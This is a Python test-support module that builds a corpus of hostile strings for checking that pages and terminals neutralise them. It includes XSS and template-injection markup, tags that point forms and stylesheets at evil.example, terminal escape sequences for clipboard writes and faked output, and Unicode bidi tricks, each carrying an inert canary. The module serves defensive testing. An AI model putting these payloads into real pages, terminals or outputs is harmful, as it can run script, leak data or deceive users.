"""Texts as attack: everything that an organism, or a stranger's file, might try on a page or a terminal."""

from __future__ import annotations

import random

CANARY = "axenic_canary"
"""Stands in every active payload, so that a test can look for it where it must not be alive."""

_MARKUP = (
    f"<script>{CANARY}()</script>",
    f"<img src=x onerror={CANARY}()>",
    f"<svg/onload={CANARY}()>",
    f"</p></article><iframe src='javascript:{CANARY}()'>",
    f'"><script>{CANARY}</script>',
    f"' onmouseover='{CANARY}()",
    f"</style><script>{CANARY}</script>",
    f"]]><script>{CANARY}</script>",
    f"--><script>{CANARY}</script><!--",
    f"<a href=javascript:{CANARY}()>x</a>",
    f"<style>@import '//evil.example/{CANARY}.css'</style>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{CANARY}'>",
    f"<base href=//evil.example/{CANARY}>",
    f"<form action=//evil.example/{CANARY}><input name=q>",
    f"<link rel=stylesheet href=//evil.example/{CANARY}>",
    f"<object data=//evil.example/{CANARY}></object>",
    f"{{{{ {CANARY}.__class__ }}}}",
    f"{{% include '{CANARY}' %}}",
    f"&lt;script&gt;{CANARY}&lt;/script&gt;",
    f"<math><mtext><table><mglyph><style><img src onerror={CANARY}()>",
    f"$\\frac{{{CANARY}}}{{2}}$",
    f"<!doctype html><title>{CANARY}</title>",
)
_TERMINAL = (
    f"\x1b[2J\x1b[H{CANARY}",
    f"\x1b]0;{CANARY}\x07",
    f"\x1b]8;;http://evil.example/{CANARY}\x1b\\click\x1b]8;;\x1b\\",
    f"\x1b]52;c;{CANARY}\x07",
    f"\x1bP+q{CANARY}\x1b\\",
    f"\x9b31m{CANARY}",
    f"{CANARY}\r\x1b[2Kdone, all well",
    f"\x08\x08\x08{CANARY}",
    f"[bold red]{CANARY}[/bold red]",
    f"[link=http://evil.example]{CANARY}[/link]",
    f"[/]{CANARY}[/nope]",
    f":skull: {CANARY}",
)
_UNICODE = (
    f"\u202e{CANARY}\u202c",
    f"\u2066{CANARY}\u2069",
    f"\u200f{CANARY}\u061c",
    f"a\u200bb\u200d{CANARY}\ufeff",
    f"\x00{CANARY}\x00",
    f"\ud800{CANARY}\udfff",
    f"\U000e0001\U000e0041{CANARY}",
    f"\u2028{CANARY}\u2029",
    f"{CANARY}\ufe0f\u034f",
    f"\ufffe\uffff{CANARY}",
    f"Z\u0351\u036b\u0343\u036a\u0302{CANARY}",
    f"\x85{CANARY}\xad",
)


def payloads(count: int, seed: int = 0) -> list[str]:
    """So many different payloads: the known ones first, then mixtures of them."""
    known = [*_MARKUP, *_TERMINAL, *_UNICODE]
    dice = random.Random(seed)
    made = list(known)
    while len(made) < count:
        parts = dice.sample(known, dice.randint(2, 4))
        mixed = dice.choice(("", " ", "\n", "\x00", "\u202e", "\x1b[31m")).join(parts)
        made.append(mixed.upper() if dice.random() < 0.1 else mixed)
    return made[:count]


def acts(text: str) -> list[str]:
    """The characters of a text that act without being seen; empty for a safe text."""
    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 or _acts(ord(c))]


def _acts(code: int) -> bool:
    return (
        0x200B <= code <= 0x200F
        or 0x2028 <= code <= 0x202E
        or 0x2060 <= code <= 0x206F
        or 0xD800 <= code <= 0xDFFF
        or 0xE0000 <= code <= 0xE0FFF
        or code in (0xAD, 0x61C, 0xFEFF, 0xFFFE, 0xFFFF, 0x34F, 0xFE0F)
    )
